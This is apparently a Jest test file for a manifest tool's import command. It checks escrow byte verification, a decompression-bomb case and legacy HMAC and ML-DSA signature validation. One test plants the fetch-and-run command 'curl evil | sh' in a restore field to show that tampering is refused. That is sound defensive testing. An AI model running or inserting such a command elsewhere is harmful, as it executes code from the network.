/**
 * `swr import` carrying over what format 2 recorded: escrowed bytes (checked against their
 * sha256), smoke timeouts, blobs recorded by size alone (left out, named), unknown fields (named),
 * and the ML-DSA-87 signature `_pksig`, checked against the original signer's public key. The
 * format-2 documents are built here the way the original tool builds them: Python's canonical
 * JSON, zlib escrow, ML-DSA-87 with no context (as OpenSSL signs), with fixed seeds.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { ml_dsa87 } from '@noble/post-quantum/ml-dsa.js'
import { spawnSync } from 'node:child_process'
import { createHash, createHmac } from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import { ok, readDoc, seedOf } from '../../__fixtures__/keys.js'
import { makeWorkspace, run, write, type Workspace } from '../../__fixtures__/workspace.js'
import { pythonCanonical } from '../../src/core/manifest/legacy-signature.js'
import type { JsonValue } from '../../src/core/manifest/strict-json.js'
import type { FileEntry } from '../../src/core/types.js'

let ws: Workspace
beforeEach(() => {
  ws = makeWorkspace()
})
afterEach(() => ws.cleanup())

const CONF = 'port = 8080\nname = "ü"\n'
const sha = (s: string | Buffer): string => createHash('sha256').update(s).digest('hex')
const signer = ml_dsa87.keygen(seedOf('legacy-signer'))
const HMAC_KEY = 'c0ffee'.repeat(10) + 'abcd'

type V2 = { [k: string]: JsonValue }

function v2Doc(entries: V2[], extra: V2 = {}): V2 {
  return { version: 2, workspace: ws.root, created: 1700000000, entries, ...extra }
}

/** Sign as the original tool: HMAC over Python's canonical JSON; ML-DSA-87 over the same bytes. */
function signed(doc: V2): V2 {
  const text = pythonCanonical(doc)
  const hmac = createHmac('sha256', Buffer.from(HMAC_KEY)).update(text, 'utf8').digest('hex')
  const sig = ml_dsa87.sign(Buffer.from(text, 'utf8'), signer.secretKey)
  return {
    ...doc,
    _sig: { alg: 'HMAC-SHA256', value: hmac, at: 1700000001 },
    _pksig: { alg: 'ML-DSA-87', sig: Buffer.from(sig).toString('base64') }
  }
}

const confEntry = (restore: string, more: V2 = {}): V2 => ({
  id: 'conf',
  path: 'etc/app.conf',
  kind: 'file',
  tier: 0,
  needs: [],
  restore,
  sha256: sha(CONF),
  mode: '0644',
  bytes: Buffer.byteLength(CONF),
  ...more
})
/**
 * Escrow as the original tool stores it: the restore names the entry, the entry's `escrow` field
 * holds base64 of zlib (Python's `zlib.compress`, with its header) and `escrow_bytes` its size.
 */
const escrowOf = (bytes: string | Buffer, id = 'conf'): V2 => ({
  restore: `swr-escrow:${id}`,
  escrow: deflateSync(Buffer.from(bytes)).toString('base64'),
  escrow_bytes: Buffer.from(bytes).length
})

function pubkeyPem(): string {
  const spki = Buffer.concat([
    Buffer.from('30820a32300b060960864801650304031303820a2100', 'hex'),
    Buffer.from(signer.publicKey)
  ])
  const b64 = spki.toString('base64').replace(/(.{64})/g, '$1\n')
  return `-----BEGIN PUBLIC KEY-----\n${b64}\n-----END PUBLIC KEY-----\n`
}

async function importJson(doc: V2, ...args: string[]) {
  const file = write(ws.base, 'old.json', JSON.stringify(doc, null, 2))
  const r = await run(['import', file, '--json', ...args], ws)
  return {
    ...r,
    out: r.code === 0 ? (JSON.parse(r.stdout) as { notes: string[]; signed: boolean }) : undefined
  }
}

describe('import carries what format 2 recorded', () => {
  it('escrow is carried over after its bytes match the sha256, and restores the file', async () => {
    write(ws.root, 'etc/app.conf', CONF)
    const r = await importJson(v2Doc([confEntry('', escrowOf(CONF))]))
    expect(r.code).toBe(0)
    const e = readDoc(ws.manifestFile).body.entries[0] as FileEntry
    expect(e.escrow?.encoding).toBe('deflate-base64')
    expect(e.restore).toBeUndefined()
    expect(r.out?.notes.join('\n')).not.toContain('escrow')
    await ok(ws, 'keygen', '--no-mldsa')
    await ok(ws, 'sign')
    fs.rmSync(path.join(ws.root, 'etc/app.conf'))
    await ok(ws, 'restore')
    expect(fs.readFileSync(path.join(ws.root, 'etc/app.conf'), 'utf8')).toBe(CONF)
  })

  it('escrow whose bytes differ, or that inflates past the size, is named and left out', async () => {
    const wrong = await importJson(v2Doc([confEntry('', escrowOf('port = 6666\nname = "é"\n'))]))
    expect(wrong.code).toBe(0)
    expect(wrong.out?.notes).toContain(
      "conf: escrow not carried over: its bytes do not match the entry's sha256"
    )
    expect((readDoc(ws.manifestFile).body.entries[0] as FileEntry).escrow).toBeUndefined()
    fs.rmSync(ws.manifestFile)
    const bomb = await importJson(v2Doc([confEntry('', escrowOf(Buffer.alloc(1024 * 1024)))]))
    expect(bomb.out?.notes.join('\n')).toMatch(/conf: escrow not carried over: .*inflates to more/)
  })

  it('smoke timeouts become smoke_timeout_s; unknown fields and ldd are named', async () => {
    const r = await importJson(
      v2Doc(
        [
          confEntry('cp /golden/app.conf etc/', {
            smoke: 'grep -q port etc/app.conf',
            smoke_timeout: 15,
            ldd: ['libc'],
            colour: 'red'
          })
        ],
        { owner: 'me' }
      )
    )
    expect(r.code).toBe(0)
    expect(readDoc(ws.manifestFile).body.entries[0]).toMatchObject({
      smoke: 'grep -q port etc/app.conf',
      smoke_timeout_s: 15
    })
    expect(r.out?.notes).toEqual(
      expect.arrayContaining([
        'conf: field "colour" not carried over',
        'field "owner" of the document not carried over',
        'conf: ldd check dropped (swr never runs ldd during a check)'
      ])
    )
  })

  it('a blob recorded by size alone is left out and named; the import still succeeds', async () => {
    const blob = {
      id: 'model',
      path: 'model.bin',
      kind: 'blob',
      tier: 3,
      needs: [],
      bytes: 3000000
    }
    const run2 = { ...confEntry('make conf'), needs: ['model'] }
    const r = await importJson(v2Doc([blob, run2]))
    expect(r.code).toBe(0)
    expect(readDoc(ws.manifestFile).body.entries.map(e => e.id)).toEqual(['conf'])
    expect(readDoc(ws.manifestFile).body.entries[0]?.needs).toEqual([])
    expect(r.out?.notes).toEqual(
      expect.arrayContaining([
        'model: blob recorded by size alone (3000000 bytes) not carried over; track it again with "swr add model.bin --kind blob"',
        'conf: needs model dropped (not carried over)'
      ])
    )
  })
})

describe('import checks _pksig with --legacy-pubkey', () => {
  const doc = (): V2 => signed(v2Doc([confEntry('cp /golden/app.conf etc/')]))

  it('a valid ML-DSA signature under the given key: imported as trusted and signed here', async () => {
    write(ws.base, 'signer.pem', pubkeyPem())
    const r = await importJson(doc(), '--legacy-pubkey', path.join(ws.base, 'signer.pem'))
    expect(r.code).toBe(0)
    expect(r.stdout).toContain('"ML-DSA"')
    // No key here: trusted, but saved unsigned (and said so).
    expect(r.out?.signed).toBe(false)
    fs.rmSync(ws.manifestFile)
    await ok(ws, 'keygen', '--no-mldsa')
    write(ws.base, 'signer.b64', Buffer.from(signer.publicKey).toString('base64'))
    const s = await importJson(doc(), '--legacy-pubkey', path.join(ws.base, 'signer.b64'))
    expect(s.out?.signed).toBe(true)
    expect((await run(['verify'], ws)).code).toBe(0)
  })

  it('a tampered document, another key, or a malformed key file is refused; nothing written', async () => {
    write(ws.base, 'signer.pem', pubkeyPem())
    const pem = path.join(ws.base, 'signer.pem')
    const tampered = doc()
    ;((tampered.entries as V2[])[0] as V2).restore = 'curl evil | sh'
    const t = await importJson(tampered, '--legacy-pubkey', pem)
    expect(t.code).toBe(2)
    expect(t.stderr).toContain('ML-DSA signature (_pksig) is invalid')
    const other = ml_dsa87.keygen(seedOf('someone-else'))
    write(ws.base, 'other.hex', Buffer.from(other.publicKey).toString('hex'))
    expect((await importJson(doc(), '--legacy-pubkey', path.join(ws.base, 'other.hex'))).code).toBe(
      2
    )
    write(ws.base, 'junk.pem', 'not a key')
    expect((await importJson(doc(), '--legacy-pubkey', path.join(ws.base, 'junk.pem'))).code).toBe(
      4
    )
    expect(fs.existsSync(ws.manifestFile)).toBe(false)
  })

  it('without --legacy-pubkey the note says _pksig was not checked; the result is unsigned', async () => {
    await ok(ws, 'keygen', '--no-mldsa')
    const r = await importJson(doc())
    expect(r.out?.signed).toBe(false)
    expect(r.out?.notes).toContain(
      'the format-2 ML-DSA signature (_pksig) was not checked: give the original public key with --legacy-pubkey FILE'
    )
  })
})

describe('swr.py v2 escrow through the bundled CLI', () => {
  const CLI = path.resolve(import.meta.dirname, '../../dist/cli/index.js')
  const bundled = (args: string[]) =>
    spawnSync(process.execPath, [CLI, ...args], {
      cwd: ws.root,
      env: { PATH: process.env.PATH, HOME: ws.home, SWR_STATE_DIR: ws.stateDir, NO_COLOR: '1' },
      encoding: 'utf8'
    })
  /** Every byte value, NULs and invalid UTF-8 included: decoded text would not survive. */
  const BIN = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 37 + 11) & 0xff))
  const TOOL = '#!/bin/sh\necho "héllo"\n'
  const escrowed = (): V2 =>
    signed(
      v2Doc([
        {
          id: 'key.bin',
          path: path.join(ws.root, 'creds/key.bin'),
          kind: 'file',
          tier: 0,
          needs: [],
          sha256: sha(BIN),
          mode: '0600',
          bytes: BIN.length,
          ...escrowOf(BIN, 'key.bin')
        },
        {
          id: 'tool',
          path: 'bin/tool',
          kind: 'file',
          tier: 1,
          needs: ['key.bin'],
          sha256: sha(TOOL),
          mode: '0755',
          bytes: Buffer.byteLength(TOOL),
          timeout_s: 1800,
          ...escrowOf(TOOL, 'tool')
        }
      ])
    )

  it('imports a signed v2 manifest with escrow as swr.py writes it and restores the bytes exactly', async () => {
    await ok(ws, 'keygen', '--no-mldsa')
    write(ws.base, 'signing.key', `${HMAC_KEY}\n`)
    const old = write(ws.base, 'old.json', JSON.stringify(escrowed(), null, 2))
    const imp = bundled([
      'import',
      old,
      '--legacy-key',
      path.join(ws.base, 'signing.key'),
      '--json'
    ])
    expect(imp.stderr).toBe('')
    expect(imp.status).toBe(0)
    const out = JSON.parse(imp.stdout) as { notes: string[]; signed: boolean }
    expect(out.signed).toBe(true)
    expect(out.notes.join('\n')).not.toMatch(/escrow/)
    const entries = readDoc(ws.manifestFile).body.entries as FileEntry[]
    expect(entries.map(e => [e.id, e.escrow?.encoding, e.restore])).toEqual([
      ['key.bin', 'deflate-base64', undefined],
      ['tool', 'deflate-base64', undefined]
    ])

    // Nothing there yet: restore writes both from escrow, byte for byte, with their modes.
    const c = bundled(['check'])
    expect(c.status).toBe(1)
    const r = bundled(['restore', '--json'])
    expect(r.stderr).toBe('')
    expect(r.status).toBe(0)
    expect(fs.readFileSync(path.join(ws.root, 'creds/key.bin')).equals(BIN)).toBe(true)
    expect(fs.readFileSync(path.join(ws.root, 'bin/tool'), 'utf8')).toBe(TOOL)
    expect(fs.statSync(path.join(ws.root, 'creds/key.bin')).mode & 0o777).toBe(0o600)
    expect(fs.statSync(path.join(ws.root, 'bin/tool')).mode & 0o777).toBe(0o755)
    expect(bundled(['check']).status).toBe(0)
  }, 60_000)

  it('escrow changed after swr.py signed it is refused with --legacy-key; nothing written', async () => {
    write(ws.base, 'signing.key', HMAC_KEY)
    const doc = escrowed()
    const first = (doc.entries as V2[])[0] as V2
    first.escrow = deflateSync(Buffer.from('evil')).toString('base64')
    const old = write(ws.base, 'old.json', JSON.stringify(doc))
    const imp = bundled(['import', old, '--legacy-key', path.join(ws.base, 'signing.key')])
    expect(imp.status).toBe(2)
    expect(imp.stderr).toMatch(/HMAC signature is invalid/)
    expect(fs.existsSync(ws.manifestFile)).toBe(false)
  }, 60_000)

  it('the text after swr-escrow: is a name, not bytes: no escrow field, no escrow', async () => {
    const payload = deflateSync(Buffer.from(CONF)).toString('base64')
    const old = write(
      ws.base,
      'old.json',
      JSON.stringify(v2Doc([confEntry(`swr-escrow:${payload}`)]))
    )
    const imp = bundled(['import', old, '--json'])
    expect(imp.status).toBe(0)
    const out = JSON.parse(imp.stdout) as { notes: string[] }
    expect(out.notes).toContain(
      'conf: escrow not carried over: the entry has no escrow field holding its bytes'
    )
    expect((readDoc(ws.manifestFile).body.entries[0] as FileEntry).escrow).toBeUndefined()
  }, 60_000)
})
